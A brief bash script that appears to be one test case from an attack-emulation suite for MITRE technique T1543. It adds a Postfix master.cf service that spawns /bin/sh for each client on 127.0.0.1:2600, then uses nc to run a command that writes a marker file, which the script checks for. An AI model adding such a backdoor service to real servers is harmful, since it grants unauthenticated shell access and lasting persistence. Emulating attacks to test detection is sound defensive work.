# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1543
about="a service of the attacker's in master.cf: a shell for each client"
attack() {
	echo '127.0.0.1:2600 inet n n n - 0 spawn user=nobody argv=/bin/sh' >>/etc/postfix/master.cf
	configure biff=no
	echo 'echo in >/var/tmp/fidelity/marker/was-here' | timeout 10 nc -N 127.0.0.1 2600
	perhaps effect
}
effect() { [ -e "$marker" ]; }
